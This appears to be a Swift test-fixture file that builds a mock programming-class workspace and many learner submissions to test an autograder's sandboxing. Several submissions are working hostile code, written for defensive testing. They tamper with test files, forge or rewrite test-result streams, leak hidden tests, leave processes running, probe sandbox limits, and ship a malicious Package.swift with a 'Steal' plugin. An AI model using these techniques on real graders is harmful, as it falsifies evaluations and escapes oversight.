import Foundation
import GraderKit
import WorkshopCore

/// A small instructor workspace written at run time, with two exercises, and a class folder of
/// submissions to grade against it, hostile ones included.
///
/// Everything is generated here rather than committed, so that broken and hostile sources never
/// reach the repository's build or its format check. The workspace lives in
/// `.build-grade-tests/` at the repository root (ignored by git), so repeated runs reuse the
/// grader's build folder; a fresh clone builds it once.
enum FixtureWorkspace {
  /// The repository root, found from this file's path.
  static let repository = URL(fileURLWithPath: #filePath)
    .deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
    .deletingLastPathComponent().deletingLastPathComponent()

  static let base = repository.appendingPathComponent(".build-grade-tests")
  static let root = base.appendingPathComponent("workspace")
  static let classFolder = base.appendingPathComponent("class")
  static let work = base.appendingPathComponent("work")

  static let fixtureID = "01-fixture"
  static let otherID = "02-other"

  // MARK: The instructor side

  static let fixtureSolution = """
    /// Doubles a number.
    public func double(_ value: Int) -> Int {
      #if SOLUTION
        return value * 2
      #else
        // Return twice the value.
        return 0
      #endif
    }

    /// Greets someone by name.
    public func greet(_ name: String) -> String {
      #if SOLUTION
        return "Hello, \\(name)!"
      #else
        return ""
      #endif
    }

    """

  static let fixtureVisibleTests = """
    import Fixture
    import Testing

    @Suite("Step 1: doubles and greets") struct VisibleTests {
      @Test func doubles() {
        #expect(double(2) == 4, "double(2) should be 4.")
      }

      @Test func greets() {
        #expect(greet("Ada") == "Hello, Ada!", "greet should say hello to Ada.")
      }
    }

    """

  static let fixtureHiddenTests = """
    import Fixture
    import Testing

    @Suite struct HiddenTests {
      @Test func doublesNegatives() {
        let secretExpression = double(-3)
        #expect(secretExpression == -6, "Negative numbers double too.")
      }

      @Test(arguments: [1, 2, 3]) func doublesMany(value: Int) {
        #expect(double(value) == value + value)
      }
    }

    """

  static let otherSolution = """
    /// Triples a number.
    public func triple(_ value: Int) -> Int {
      #if SOLUTION
        return value * 3
      #else
        return 0
      #endif
    }

    """

  static let otherTests = """
    import Other
    import Testing

    @Suite struct TripleTests {
      @Test func triples() {
        #expect(triple(3) == 9, "triple(3) should be 9.")
      }
    }

    """

  /// The fixture exercise's decoys: name, misunderstanding, optional lesson step, source.
  static let fixtureDecoys:
    [(name: String, misunderstanding: String, step: String?, source: String)] =
      [
        (
          "adds-two", "Adds two instead of multiplying by two.", nil,
          """
          public func double(_ value: Int) -> Int { value + 2 }
          public func greet(_ name: String) -> String { "Hello, \\(name)!" }

          """
        ),
        (
          "ignores-sign", "Doubles the size of a number and forgets its sign.",
          "Step 2: negative numbers",
          """
          public func double(_ value: Int) -> Int { abs(value) * 2 }
          public func greet(_ name: String) -> String { "Hello, \\(name)!" }

          """
        ),
        (
          "no-exclamation", "Greets without the exclamation mark.", nil,
          """
          public func double(_ value: Int) -> Int { value * 2 }
          public func greet(_ name: String) -> String { "Hello, \\(name)" }

          """
        ),
        (
          // Crashes where `ignores-sign` fails: the same test, told apart by how it ends.
          "traps-on-negatives", "Believes a negative number cannot be doubled, and stops on one.",
          nil,
          """
          public func double(_ value: Int) -> Int {
            precondition(value >= 0, "only natural numbers double")
            return value * 2
          }
          public func greet(_ name: String) -> String { "Hello, \\(name)!" }

          """
        ),
      ]

  /// What each fixture decoy fails, and how, worked out by hand from its source.
  static let fixtureSignatures: [String: FailureSignature] = [
    "adds-two": FailureSignature(
      failed: ["HiddenTests/doublesNegatives()", "HiddenTests/doublesMany(value:)"]),
    "ignores-sign": FailureSignature(failed: ["HiddenTests/doublesNegatives()"]),
    "no-exclamation": FailureSignature(failed: ["VisibleTests/greets()"]),
    "traps-on-negatives": FailureSignature(crashed: ["HiddenTests/doublesNegatives()"]),
  ]

  static func manifest(
    id: String, module: String, visible: String, tests: [(String, Int)],
    decoys: [(name: String, misunderstanding: String, step: String?)] = [
      ("a", "unused here", nil), ("b", "unused here", nil), ("c", "unused here", nil),
    ]
  ) -> String {
    let testLines = tests.map {
      #"{ "id": "\#($0.0)", "points": \#($0.1), "hint": "Hint for \#($0.0)." }"#
    }
    let decoyLines = decoys.map { decoy in
      #"{ "name": "\#(decoy.name)", "misunderstanding": "\#(decoy.misunderstanding)""#
        + (decoy.step.map { #", "lessonStep": "\#($0)""# } ?? "") + " }"
    }
    return """
      {
        "format": 2, "id": "\(id)",
        "timeLimitSeconds": 4, "budgetSeconds": 40,
        "executables": [], "visibleTestFiles": ["\(visible)"],
        "tests": [\(testLines.joined(separator: ", "))],
        "hints": ["one", "two", "three"],
        "decoys": [\(decoyLines.joined(separator: ", "))]
      }
      """
  }

  /// Writes the instructor workspace (its `Packages` is the repository's, by symbolic link).
  static func writeWorkspace() throws {
    let manager = FileManager.default
    try? manager.removeItem(at: root)
    try manager.createDirectory(at: root, withIntermediateDirectories: true)
    try manager.createSymbolicLink(
      at: root.appendingPathComponent("Packages"),
      withDestinationURL: repository.appendingPathComponent("Packages"))
    let catalogue = Catalogue(entries: [
      .init(id: fixtureID, title: "Fixture Fixture", module: "Fixture"),
      .init(id: otherID, title: "Fixture Other", module: "Other"),
    ])
    try write(CatalogueJSON.render(catalogue), Catalogue.path)
    try write(
      manifest(
        id: fixtureID, module: "Fixture", visible: "VisibleTests.swift",
        tests: [
          ("VisibleTests/doubles()", 2), ("VisibleTests/greets()", 2),
          ("HiddenTests/doublesNegatives()", 3), ("HiddenTests/doublesMany(value:)", 1),
        ],
        decoys: fixtureDecoys.map { ($0.name, $0.misunderstanding, $0.step) }),
      "Tests/\(fixtureID)/exercise.json")
    for decoy in fixtureDecoys {
      try write(decoy.source, "Tests/\(fixtureID)/Decoys/\(decoy.name)/Fixture/Fixture.swift")
    }
    try write(fixtureVisibleTests, "Tests/\(fixtureID)/FixtureTests/VisibleTests.swift")
    try write(fixtureHiddenTests, "Tests/\(fixtureID)/FixtureTests/HiddenTests.swift")
    try write(fixtureSolution, "Solutions/\(fixtureID)/Sources/Fixture/Fixture.swift")
    try write(
      manifest(
        id: otherID, module: "Other", visible: "TripleTests.swift",
        tests: [("TripleTests/triples()", 5)]),
      "Tests/\(otherID)/exercise.json")
    try write(otherTests, "Tests/\(otherID)/OtherTests/TripleTests.swift")
    try write(otherSolution, "Solutions/\(otherID)/Sources/Other/Other.swift")
  }

  private static func write(_ text: String, _ path: String) throws {
    let url = root.appendingPathComponent(path)
    try FileManager.default.createDirectory(
      at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
    try Data(text.utf8).write(to: url)
  }

  // MARK: The submissions

  static let correctFixture = """
    public func double(_ value: Int) -> Int { value * 2 }
    public func greet(_ name: String) -> String { "Hello, \\(name)!" }

    """

  static let correctOther = "public func triple(_ value: Int) -> Int { value * 3 }\n"

  /// One learner's folder: files by path relative to the learner's folder.
  struct Learner {
    var name: String
    var files: [String: Data]
    var symbolicLinks: [String: String] = [:]
  }

  static func fixtureFiles(_ files: [String: String]) -> [String: Data] {
    Dictionary(
      uniqueKeysWithValues: files.map {
        ("Exercises/\(fixtureID)/Sources/Fixture/\($0.key)", Data($0.value.utf8))
      })
  }

  static let otherCorrect: [String: Data] = [
    "Exercises/\(otherID)/Sources/Other/Other.swift": Data(correctOther.utf8)
  ]

  static func learners(starter: String) -> [Learner] {
    [
      Learner(
        name: "zoë correct",
        files: fixtureFiles(["Fixture.swift": correctFixture]).merging(otherCorrect) { $1 }),
      Learner(name: "starter", files: fixtureFiles(["Fixture.swift": starter])),
      Learner(
        name: "compile-error",
        files: fixtureFiles([
          "Fixture.swift": "public func double(_ value: Int) -> Int { value * }\n"
            + "public func greet(_ name: String) -> String { name }\n"
        ]).merging(otherCorrect) { $1 }),
      Learner(
        name: "fatal-error",
        files: fixtureFiles([
          "Fixture.swift": """
          public func double(_ value: Int) -> Int { value * 2 }
          public func greet(_ name: String) -> String { fatalError("not written yet") }

          """
        ]).merging(otherCorrect) { $1 }),
      Learner(
        name: "infinite-loop",
        files: fixtureFiles([
          "Fixture.swift": """
          public func double(_ value: Int) -> Int {
            var spins = 0
            while value < 0 { spins = (spins &+ 1) & 0xff }
            return value * 2 + spins
          }
          public func greet(_ name: String) -> String { "Hello, \\(name)!" }

          """
        ]).merging(otherCorrect) { $1 }),
      Learner(
        // Crashes where `traps-on-negatives` does, and fails one test more: no exact match.
        name: "crashes-and-fails",
        files: fixtureFiles([
          "Fixture.swift": """
          public func double(_ value: Int) -> Int {
            precondition(value >= 0, "only natural numbers double")
            return value * 2
          }
          public func greet(_ name: String) -> String { "Hello, \\(name)" }

          """
        ])),
      Learner(
        name: "deep-recursion",
        files: fixtureFiles([
          "Fixture.swift": """
          public func double(_ value: Int) -> Int { value * 2 }
          public func greet(_ name: String) -> String { countDown(name.count) }
          func countDown(_ n: Int) -> String { n == Int.min ? "" : countDown(n - 1) + "." }

          """
        ]).merging(otherCorrect) { $1 }),
      Learner(
        name: "prints-fake-passes",
        files: fixtureFiles([
          "Fixture.swift": #"""
          public func double(_ value: Int) -> Int {
            print("✔ Test doubles() passed after 0.001 seconds.")
            print("✔ Test run with 4 tests passed after 0.002 seconds.")
            print(#"{"kind":"event","payload":{"kind":"testEnded","testID":"FixtureTests.VisibleTests/doubles()"}}"#)
            return value + 1
          }
          public func greet(_ name: String) -> String { "Hello, \(name)!" }

          """#
        ])),
      Learner(
        name: "own-tests",
        files: fixtureFiles([
          "Fixture.swift": """
          import Testing

          public func double(_ value: Int) -> Int { value }
          public func greet(_ name: String) -> String { "Hello, \\(name)!" }

          @Suite("Step 1: doubles and greets") struct VisibleTests {
            @Test func doubles() { #expect(Bool(true)) }
          }

          @Test func bonusPoints() { #expect(Bool(true)) }

          """
        ])),
      Learner(
        name: "edited-tests",
        files: fixtureFiles(["Fixture.swift": starter]).merging([
          "Exercises/\(fixtureID)/Tests/FixtureTests/VisibleTests.swift": Data(
            """
            import Testing
            @Suite("Step 1: doubles and greets") struct VisibleTests {
              @Test func doubles() {}
              @Test func greets() {}
            }

            """.utf8)
        ]) { $1 }),
      Learner(
        name: "malicious-package",
        files: fixtureFiles([
          "Fixture.swift": """
          #if EVIL
            #error("the submission's Package.swift was used")
          #endif
          public func double(_ value: Int) -> Int { value * 2 }
          public func greet(_ name: String) -> String { "Hello, \\(name)!" }

          """
        ]).merging([
          "Exercises/\(fixtureID)/Package.swift": Data(
            """
            // swift-tools-version: 6.1
            import PackageDescription
            let package = Package(
              name: "evil",
              dependencies: [.package(url: "https://example.invalid/evil.git", from: "1.0.0")],
              targets: [
                .target(name: "Fixture", swiftSettings: [.unsafeFlags(["-DEVIL"])]),
                .plugin(name: "Steal", capability: .buildTool()),
              ]
            )

            """.utf8)
        ]) { $1 }),
      Learner(
        name: "symbolic-link",
        files: fixtureFiles(["Fixture.swift": correctFixture]),
        symbolicLinks: [
          "Exercises/\(fixtureID)/Sources/Fixture/Outside.swift": "../../../../../outside.swift"
        ]),
      Learner(
        name: "floods-output",
        files: fixtureFiles([
          "Fixture.swift": """
          let flood: Void = {
            let line = String(repeating: "x", count: 1023) + "\\n"
            for _ in 0..<51_200 { print(line, terminator: "") }
          }()

          public func double(_ value: Int) -> Int {
            flood
            return value * 2
          }
          public func greet(_ name: String) -> String { "Hello, \\(name)!" }

          """
        ])),
      Learner(name: "missing-exercise", files: otherCorrect),
      Learner(name: "tampers-with-files", files: fixtureFiles(["Tamper.swift": tampersWithFiles])),
      Learner(name: "forges-results", files: fixtureFiles(["Forge.swift": forgesResults])),
      Learner(name: "rewrites-results", files: fixtureFiles(["Rewrite.swift": rewritesResults])),
      Learner(name: "reads-hidden-tests", files: fixtureFiles(["Read.swift": readsHiddenTests])),
      Learner(name: "leaves-processes", files: fixtureFiles(["Spawn.swift": leavesProcesses])),
      Learner(name: "probes-limits", files: fixtureFiles(["Probe.swift": probesLimits])),
      Learner(
        name: "not-utf8",
        files: fixtureFiles(["Fixture.swift": correctFixture]).merging([
          "Exercises/\(fixtureID)/Sources/Fixture/Latin1.swift": Data(
            "let caf = \"caf".utf8) + Data([0xE9]) + Data("\"\n".utf8)
        ]) { $1 }),
    ]
      + fixtureDecoys.map { decoy in
        // One learner per decoy, handing in the fixture exercise only.
        Learner(name: "decoy-\(decoy.name)", files: fixtureFiles(["Fixture.swift": decoy.source]))
      }
  }

  // MARK: Hostile submissions: what a determined learner wrote in a class run (issue 12)

  /// Where the assembled package, the grader's folder and the instructor's workspace are,
  /// found from the path the compiler gives the learner's own file.
  static let hostilePaths = """
    import Foundation

    let sourceFile = URL(fileURLWithPath: #filePath)
    let packageFolder = sourceFile.deletingLastPathComponent().deletingLastPathComponent()
      .deletingLastPathComponent()
    let graderFolder = packageFolder.deletingLastPathComponent().deletingLastPathComponent()
    let workspaceFolder = graderFolder.deletingLastPathComponent().appendingPathComponent("workspace")

    """

  /// Rewrites the assembled solution tests (so the next learner's build passes everything), the
  /// instructor's own `Tests/`, and plants a file in the grader's folder.
  static let tampersWithFiles =
    hostilePaths + """
      public func double(_ value: Int) -> Int {
        let passing = "import Testing\\n@Suite struct VisibleTests {\\n"
          + "  @Test func doubles() {}\\n  @Test func greets() {}\\n}\\n"
        for target in [
          packageFolder.appendingPathComponent("Tests/FixtureTests/VisibleTests.swift"),
          workspaceFolder.appendingPathComponent("Tests/01-fixture/FixtureTests/VisibleTests.swift"),
        ] {
          try? passing.write(to: target, atomically: false, encoding: .utf8)
        }
        try? "planted".write(
          to: graderFolder.appendingPathComponent("planted-by-a-learner"), atomically: false,
          encoding: .utf8)
        return 0
      }
      public func greet(_ name: String) -> String { "" }

      """

  /// Fake "passed" records for every graded test, appended to the event stream found in the
  /// command line, then an exit before the real results are written.
  static let forgedRecords = ##"""
    let forged = ["VisibleTests/doubles()", "VisibleTests/greets()",
      "HiddenTests/doublesNegatives()", "HiddenTests/doublesMany(value:)"]
      .flatMap { id in
        ["testStarted", "testEnded"].map { kind in
          #"{"kind":"event","payload":{"kind":"\#(kind)","testID":"FixtureTests.\#(id)","#
            + #""messages":[{"symbol":"pass","text":"passed"}]},"version":"6.3.0"}"#
        }
      } + [#"{"kind":"event","payload":{"kind":"runEnded","messages":[]},"version":"6.3.0"}"#]
    let forgedStream = forged.joined(separator: "\n") + "\n"

    func eventStreamPath() -> String? {
      let arguments = CommandLine.arguments
      guard let index = arguments.firstIndex(of: "--event-stream-output-path"),
        index + 1 < arguments.count
      else { return nil }
      return arguments[index + 1]
    }

    """##

  static let forgesResults =
    "import Foundation\n\n" + forgedRecords + """
      public func double(_ value: Int) -> Int {
        if let path = eventStreamPath(), let handle = FileHandle(forWritingAtPath: path) {
          _ = try? handle.seekToEnd()
          try? handle.write(contentsOf: Data(forgedStream.utf8))
          try? handle.close()
          exit(0)
        }
        return 0
      }
      public func greet(_ name: String) -> String { "" }

      """

  /// Replaces the whole event stream file with a passing one, then exits.
  static let rewritesResults =
    "import Foundation\n\n" + forgedRecords + ##"""
      let declarations = ["VisibleTests/doubles()", "VisibleTests/greets()",
        "HiddenTests/doublesNegatives()", "HiddenTests/doublesMany(value:)"].map {
          #"{"kind":"test","payload":{"id":"FixtureTests.\#($0)","kind":"function"},"version":"6.3.0"}"#
        }
      let started = #"{"kind":"event","payload":{"kind":"runStarted"},"version":"6.3.0"}"#

      public func double(_ value: Int) -> Int {
        if let path = eventStreamPath() {
          let whole = (declarations + [started]).joined(separator: "\n") + "\n" + forgedStream
          try? Data(whole.utf8).write(to: URL(fileURLWithPath: path), options: .atomic)
          exit(0)
        }
        return 0
      }
      public func greet(_ name: String) -> String { "" }

      """##

  /// Reads the hidden tests from disk and puts them in a failure message of a visible test.
  static let readsHiddenTests =
    "import Testing\n" + hostilePaths + """
      public func double(_ value: Int) -> Int {
        for file in [
          packageFolder.appendingPathComponent("Tests/FixtureTests/HiddenTests.swift"),
          workspaceFolder.appendingPathComponent("Tests/01-fixture/FixtureTests/HiddenTests.swift"),
        ] {
          if let text = try? String(contentsOf: file, encoding: .utf8) {
            Issue.record(Comment(rawValue: text))
          }
        }
        return value * 2
      }
      public func greet(_ name: String) -> String { "Hello, \\(name)!" }

      """

  /// A command-line marker of the processes `leaves-processes` starts.
  static let lingeringMarker = "4323.1717"

  /// Starts a process in a new session that keeps every descriptor the test process had (the
  /// grader's included, when unsandboxed), and one more in its own process group.
  static let leavesProcesses = """
    import Foundation
    #if canImport(Glibc)
      import Glibc
    #endif

    func start(_ arguments: [String]) {
      var pid: pid_t = 0
      let argv = arguments.map { strdup($0) } + [nil]
      let environment: [UnsafeMutablePointer<CChar>?] = [nil]
      _ = posix_spawn(&pid, arguments[0], nil, nil, argv, environment)
    }

    public func double(_ value: Int) -> Int {
      start(["/usr/bin/setsid", "/bin/sleep", "\(lingeringMarker)"])
      let process = Process()
      process.executableURL = URL(fileURLWithPath: "/bin/sleep")
      process.arguments = ["\(lingeringMarker)"]
      try? process.run()
      return value * 2
    }
    public func greet(_ name: String) -> String { "Hello, \\(name)!" }

    """

  /// Scores only where the sandbox stops it: allocating 6 GB, running 400 threads, writing a
  /// 48 MB file, seeing a network interface other than the loopback, or reaching the grader's
  /// standard output through `/proc/<parent>/fd/1` (as a fake "37/37" line was written once).
  static let probesLimits = """
    import Dispatch
    import Foundation
    #if canImport(Glibc)
      import Glibc
    #endif

    let gate = DispatchSemaphore(value: 0)

    func memoryIsLimited() -> Bool {
      let block = malloc(6 << 30)
      defer { free(block) }
      return block == nil
    }

    func threadsAreLimited() -> Bool {
      var threads: [pthread_t] = []
      var limited = false
      for _ in 0..<400 {
        var thread = pthread_t()
        var attributes = pthread_attr_t()
        pthread_attr_init(&attributes)
        pthread_attr_setstacksize(&attributes, 64 << 10)
        let started = pthread_create(&thread, &attributes, { _ in
          gate.wait()
          return nil
        }, nil)
        if started != 0 {
          limited = true
          break
        }
        threads.append(thread)
      }
      for _ in threads { gate.signal() }
      for thread in threads { pthread_join(thread, nil) }
      return limited
    }

    func fileSizeIsLimited() -> Bool {
      signal(SIGXFSZ, SIG_IGN)
      let path = NSTemporaryDirectory() + "/big-\\(getpid())"
      guard let file = fopen(path, "w") else { return true }
      defer { remove(path) }
      let chunk = [UInt8](repeating: 1, count: 1 << 20)
      var written = 0
      for _ in 0..<48 {
        let count = fwrite(chunk, 1, chunk.count, file)
        written += count
        if count < chunk.count { break }
      }
      if fflush(file) != 0 { written = 0 }
      fclose(file)
      return written < 48 << 20
    }

    func onlyLoopback() -> Bool {
      var list: UnsafeMutablePointer<ifaddrs>?
      guard getifaddrs(&list) == 0 else { return true }
      defer { freeifaddrs(list) }
      var entry = list
      while let current = entry {
        if String(cString: current.pointee.ifa_name) != "lo" { return false }
        entry = current.pointee.ifa_next
      }
      return true
    }

    func graderOutputIsOutOfReach() -> Bool {
      let descriptor = open("/proc/\\(getppid())/fd/1", O_WRONLY)
      guard descriptor >= 0 else { return true }
      defer { close(descriptor) }
      var theirs = stat()
      var mine = stat()
      fstat(descriptor, &theirs)
      fstat(1, &mine)
      return theirs.st_ino == mine.st_ino && theirs.st_dev == mine.st_dev
    }

    public func double(_ value: Int) -> Int {
      switch value {
      case 2: return memoryIsLimited() ? 4 : -1
      case -3: return threadsAreLimited() ? -6 : -1
      case 1: return fileSizeIsLimited() ? 2 : -1
      default: return value * 2
      }
    }

    public func greet(_ name: String) -> String {
      onlyLoopback() && graderOutputIsOutOfReach() ? "Hello, \\(name)!" : "no"
    }

    """

  /// Whether this machine can sandbox test processes (Linux with user namespaces, and bwrap or
  /// unshare): elsewhere the class is graded unsandboxed, and says so.
  static let sandboxAvailable =
    (try? Sandbox.choose(.automatic, scratch: base.appendingPathComponent("check-available")))?
    .sandbox != nil

  /// The grader the suites use: sandboxed whenever this machine allows it, like any run.
  static func grader(_ layout: WorkspaceLayout) throws -> Grader {
    let choice = try Sandbox.choose(.automatic, scratch: base.appendingPathComponent("check"))
    return Grader(
      layout: layout, work: work, jobs: 2, sandbox: choice.sandbox,
      notes: choice.note.map { [$0] } ?? [])
  }

  /// Processes alive now whose command line contains `marker`.
  static func processes(containing marker: String) -> [Int32] {
    let entries = (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []
    return entries.compactMap { Int32($0) }.filter { pid in
      guard let data = FileManager.default.contents(atPath: "/proc/\(pid)/cmdline") else {
        return false
      }
      return String(decoding: data, as: UTF8.self).replacingOccurrences(of: "\0", with: " ")
        .contains(marker)
    }
  }

  /// Writes the class folder, with a file beside it that one submission links to.
  static func writeClass() throws -> [Learner] {
    let manager = FileManager.default
    try? manager.removeItem(at: classFolder)
    try manager.createDirectory(at: classFolder, withIntermediateDirectories: true)
    try Data("public func double(_ value: Int) -> Int { 999 }\n".utf8)
      .write(to: base.appendingPathComponent("outside.swift"))
    let sources = try ExerciseSources(id: fixtureID, layout: WorkspaceLayout(root: root))
    let starter = String(
      decoding: try sources.starterModule().files["Fixture.swift"]!, as: UTF8.self)
    let learners = learners(starter: starter)
    for learner in learners {
      let folder = classFolder.appendingPathComponent(learner.name)
      try manager.createDirectory(
        at: folder.appendingPathComponent("Exercises"), withIntermediateDirectories: true)
      for (path, data) in learner.files {
        let url = folder.appendingPathComponent(path)
        try manager.createDirectory(
          at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
        try data.write(to: url)
      }
      for (path, destination) in learner.symbolicLinks {
        try manager.createSymbolicLink(
          atPath: folder.appendingPathComponent(path).path, withDestinationPath: destination)
      }
    }
    return learners
  }

  /// Every file below `folder`, with its kind, content (or link target), permissions and
  /// modification date: equal snapshots mean the folder was not touched.
  static func snapshot(_ folder: URL) throws -> [String: String] {
    var result: [String: String] = [:]
    let manager = FileManager.default
    for path in try manager.subpathsOfDirectory(atPath: folder.path) {
      let full = folder.appendingPathComponent(path).path
      let attributes = try manager.attributesOfItem(atPath: full)
      let type = attributes[.type] as? FileAttributeType
      var description =
        "\(type?.rawValue ?? "?") \(attributes[.posixPermissions] ?? "") "
        + "\((attributes[.modificationDate] as? Date)?.timeIntervalSince1970 ?? 0)"
      if type == .typeSymbolicLink {
        description += " -> " + (try manager.destinationOfSymbolicLink(atPath: full))
      } else if type == .typeRegular {
        description +=
          " " + (try Data(contentsOf: URL(fileURLWithPath: full))).base64EncodedString()
      }
      result[path] = description
    }
    return result
  }
}
